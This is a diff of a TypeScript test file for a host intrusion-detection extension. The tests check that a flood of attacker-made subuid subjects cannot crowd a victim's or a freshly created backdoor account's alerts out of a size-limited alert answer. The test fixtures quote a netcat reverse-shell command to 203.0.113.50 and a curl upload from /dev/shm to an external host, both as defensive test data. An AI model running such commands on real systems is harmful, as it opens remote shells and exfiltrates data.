@@ -1,7 +1,7 @@
 import * as fs from 'fs';
 import * as os from 'os';
 import * as path from 'path';
-import t from 'tap';
+import t, { type Test } from 'tap';
 import { storedColumns } from '../scorer/features/extract';
 import type { ScoredEvent } from '../scorer/types';
 import { ANSWER_BYTES, answerShare, heldReasons } from '../extension/tables/answer';
@@ -12,6 +12,7 @@ import { SCORE_COLUMNS, scoresTable } from '../extension/tables/scores';
 import { badAnswer, badRequest, tmpScoreStore } from './helpers/alert-answer';
 import { plainRow } from './helpers/scored';
 import { RetainedScores } from '../state/scores';
+import { HostAccounts } from '../extension/host-accounts';
 
 // The fold attack (review, lead 1): a local user who can make tens of thousands of subjects
 // (the owner uids of a rootless container's files, 65,536 subuids a user, each `uid:N` as no
@@ -83,6 +84,15 @@ const VICTIM: ScoredEvent = {
     '{"pid":"7353","path":"/usr/bin/nc","mode":"0100755","cmdline":"nc -e /bin/sh 203.0.113.50 4444","cwd":"/tmp","auid":"1002","uid":"1002","euid":"1002","gid":"1002","egid":"1002","owner_uid":"0","owner_gid":"0","atime":"1795304460","mtime":"1791590400","ctime":"1791590400","btime":"0","parent":"7347","time":"1795390860","uptime":"1209460","syscall":"execve"}',
 };
 
+/** the answer's summaries and rows shown, checked to account for all `bad` rows */
+function accounted(t: Test, out: Row[], bad: number): { held: Row[]; shown: number } {
+  const held = out.filter((r) => r.model === 'held-back');
+  const shown = out.length - held.length;
+  const heldRows = held.reduce((n, r) => n + Number(/held back: (\d+) rows/.exec(r.event)?.[1]), 0);
+  t.equal(shown + heldRows, bad, `every bad row is shown or counted in a summary (${shown} shown, ${heldRows} held back in ${held.length} summaries)`);
+  return { held, shown };
+}
+
 t.test("tens of thousands of attacker subjects with a bad row each do not fold another account's alert out of the bad answer (fold)", async (t) => {
   const store = tmpScoreStore(t);
   // 40,000 of one rootless user's 65,536 subuids
@@ -104,10 +114,7 @@ t.test("tens of thousands of attacker subjects with a bad row each do not fold a
     out.some((r) => r.id === VICTIM.id),
     "bob's alert is a row of the answer",
   );
-  const held = out.filter((r) => r.model === 'held-back');
-  const shown = out.length - held.length;
-  const heldRows = held.reduce((n, r) => n + Number(/held back: (\d+) rows/.exec(r.event)?.[1]), 0);
-  t.equal(shown + heldRows, FLOOD + 1, `every bad row is shown or counted in a summary (${shown} shown, ${heldRows} held back in ${held.length} summaries)`);
+  const { held, shown } = accounted(t, out, FLOOD + 1);
   const bytes = out.reduce((n, r) => n + Object.entries(r).reduce((m, [k, v]) => m + 8 + k.length + Buffer.byteLength(v ?? ''), 6), 0);
   t.ok(bytes <= ANSWER_BYTES, `the answer keeps to its budget (${(bytes / 2 ** 20).toFixed(1)} MB)`);
   t.ok(shown > 5_000, `the budget holds rows, not only summaries (${shown} rows)`);
@@ -233,4 +240,129 @@ t.test("a flood's rows padded in `columns`, which the bad query does not read, a
     `every subject's row is in the answer (${rows.length} rows, ${out.length - rows.length} summaries, ${wire} bytes of ${share.bytes})`,
   );
   t.ok(wire <= share.bytes, 'within its bytes');
+});
+
+/**
+ * the host's users table as the extension reads it: root, bob, mallory (who runs the rootless
+ * container) and `sysupd`, the account the attacker's root shell made with useradd an hour ago
+ */
+const hostAccounts = (): HostAccounts => {
+  const a = new HostAccounts();
+  a.update([
+    { uid: '0', username: 'root' },
+    { uid: '1002', username: 'bob' },
+    { uid: '1003', username: 'mallory' },
+    { uid: '1005', username: 'sysupd' },
+  ]);
+  return a;
+};
+
+/** an ordinary row of `subject` while it learns, scored by the host's baseline: what gives a subject standing */
+const learningRow = (subject: string, k: number, i: number): ScoredEvent =>
+  plainRow(i, {
+    id: `${subject}-early-${k}`,
+    time: NOW - 20 * 3600 + k * 60,
+    host: HOST,
+    subject,
+    query: 'pack_user-behavior_file_events',
+    event: 'write /home/<user>/.local/share/containers/storage/<*>',
+    score: 0.8,
+    verdict: 'good',
+    model: 'host:rarity',
+  });
+
+t.test('a fresh account root made, still learning, is not folded out of the bad answer by a crowd of uid subjects (foldacct)', async (t) => {
+  // The crowd: 40,000 of mallory's subuids, each with 7 ordinary rows earlier in the day
+  // (standing 3, 280,000 rows of the 1,000,000 retention keeps) and one bad row scored 0 by
+  // the host's baseline, all still learning. The backdoor `sysupd` is still learning too: its
+  // first rows (a login, a shell, sudo) and its bad one are the host baseline's, 0.12, and its
+  // history is 3 rows (standing 2). Neither the own-models tier nor standing nor score can
+  // place it before the crowd; being an account the users table lists does
+  const store = tmpScoreStore(t);
+  const FLOOD = 40_000;
+  let i = 0;
+  let batch: ScoredEvent[] = [];
+  const flush = (at: number): void => {
+    if (batch.length < at) return;
+    store.append(batch);
+    batch = [];
+  };
+  for (let k = 0; k < 3; k++) batch.push(learningRow('sysupd', k, i++));
+  for (let c = 0; c < FLOOD; c++) {
+    for (let k = 0; k < 7; k++) batch.push(learningRow(`uid:${100_000 + c}`, k, i++));
+    flush(10_000);
+  }
+  flush(1);
+  const backdoor: ScoredEvent = {
+    ...VICTIM,
+    id: 'sysupd-bad',
+    subject: 'sysupd',
+    event: 'shell curl -s -T /dev/shm/<tmp> https://<*>/u',
+    score: 0.12,
+    model: 'host:rarity',
+    reasons:
+      "new kind of behaviour: argloc `temp-hidden` never seen before on this host (in 41,210 events); `shell curl -s -T /dev/shm/<tmp> https://<*>/u` never occurred in this subject's training sequence (host:rarity; learning: 4 of 1,000 events)",
+  };
+  // its first process rows, scored before the extension read the users table again (every
+  // 600 s), are named by its uid: the same account
+  const early: ScoredEvent = { ...backdoor, id: 'uid1005-bad', subject: 'uid:1005', time: NOW - 3000, event: 'exec /usr/bin/id <- /bin/bash' };
+  for (let k = 0; k < FLOOD; k++) {
+    // a quarter of the crowd's rows short: once the long ones no longer fit, these take what
+    // room is left, which a row of the backdoor's size would otherwise have had
+    batch.push(k % 4 === 3 ? { ...attackers(k), event: 'write /home/<user>/.local/share/containers/<*>' } : attackers(k));
+    if (k === 20_000) batch.push(backdoor, early);
+    flush(2_000);
+  }
+  flush(1);
+
+  const foldedOf = (rows: Row[]): number => Number(/ of (\d+) subjects/.exec(rows.find((r) => r.subject === '*')?.event ?? '')?.[1]);
+  const without = await badAnswer(store, NOW);
+  t.notOk(
+    without.some((r) => r.id === backdoor.id),
+    `without the users table the backdoor ranks among the crowd and is folded (the rows a crowd may make outrank it: ${without.filter((r) => r.model !== 'held-back').length} rows shown, ${foldedOf(without)} subjects folded)`,
+  );
+  const out = await badAnswer(store, NOW, hostAccounts());
+  t.ok(
+    out.some((r) => r.id === backdoor.id),
+    "the backdoor's row is a row of the answer",
+  );
+  t.ok(
+    out.some((r) => r.id === early.id),
+    'and so is its row the scorer named by its uid before it knew the account',
+  );
+  const { held } = accounted(t, out, FLOOD + 2);
+  const folded = held.find((r) => r.subject === '*');
+  t.ok(folded, `the crowd's subjects with no room are still summed up in one row (${foldedOf(out)} subjects)`);
+  t.match(folded?.reasons ?? '', /accounts the host's users table lists before/, `which says accounts rank first (${folded?.reasons})`);
+});
+
+t.test('an account the host lists ranks before subjects it does not list, whatever their standing, score or names (foldacct)', async (t) => {
+  // room for 8 rows, as above
+  const share = (accounts?: HostAccounts): AnswerShare => ({
+    bytes: 10_000,
+    heldBytes: 1_000,
+    rows: 1_000,
+    perSubject: Infinity,
+    rowBytes: () => 1_000,
+    account: accounts && ((s) => accounts.has(s)),
+  });
+  const store = tmpScoreStore(t);
+  const rows: ScoredEvent[] = [];
+  let i = 0;
+  const subject = (name: string, history: number, score: number): void => {
+    for (let k = 0; k < history; k++) rows.push(plainRow(i++, { id: `${name}-${k}`, subject: name, model: 'host:rarity', time: NOW - 86400 + k }));
+    rows.push(plainRow(i++, { id: `${name}-bad`, subject: name, score, verdict: 'bad', model: 'host:rarity', time: NOW - 60 }));
+  };
+  subject('sysupd', 0, 0.25);
+  // subuids, and names a login row could give that no passwd entry has (utmp's user, were it
+  // writable): neither is an account the table lists
+  for (let c = 0; c < 10; c++) subject(`uid:${100_000 + c}`, 63, 0);
+  for (let c = 0; c < 10; c++) subject(`sysupd${c}`, 63, 0);
+  store.append(rows);
+  const shown = (accounts?: HostAccounts): string[] =>
+    [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share(accounts))].filter((r) => !('held' in r)).map((r) => (r as ScoredEvent).id);
+  t.notOk(shown().includes('sysupd-bad'), 'without the users table, 20 subjects of more history and lower scores take the room');
+  const answered = shown(hostAccounts());
+  t.equal(answered.length, 8, 'the room is used');
+  t.ok(answered.includes('sysupd-bad'), `with it, the account is answered first (${answered.join(' ')})`);
 });
